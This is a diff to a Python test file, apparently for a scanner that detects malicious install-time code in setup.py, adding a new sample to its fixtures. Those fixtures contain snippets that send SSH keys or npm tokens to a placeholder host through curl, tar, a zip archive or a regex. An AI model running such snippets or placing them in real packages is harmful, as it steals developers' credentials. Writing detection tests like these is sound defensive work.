@@ -681,12 +681,14 @@ def test_credential_files_carried_out_by_a_tool_an_archive_or_a_regular_expressi
     def setup(source: str) -> FileContext:
         return py(source, path="x-1.0/setup.py", stage=Stage.INSTALL)
 
-    head = "import io, os, re, subprocess, tarfile, urllib.request\nHOME = os.path.expanduser('~')\n"
+    head = "import io, os, re, shutil, subprocess, tarfile, urllib.request\nHOME = os.path.expanduser('~')\n"
     carried = {
         "curl": "subprocess.run(['curl', '-F', f'f=@{HOME}/.ssh/id_rsa', 'https://h.example/u'])\n",
         "tar": "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n"
         "    t.add(os.path.expanduser('~/.ssh'))\n"
         "urllib.request.urlopen('https://h.example/t', data=b.getvalue())\n",
+        "make_archive": "shutil.make_archive('/tmp/k', 'zip', os.path.expanduser('~/.ssh'))\n"
+        "urllib.request.urlopen('https://h.example/t', data=open('/tmp/k.zip', 'rb').read())\n",
         "regex": "t = open(os.path.expanduser('~/.npmrc')).read()\n"
         "tok = re.findall(r'_authToken=(\\S+)', t)\n"
         "urllib.request.urlopen('https://h.example/n?t=' + ','.join(tok))\n",
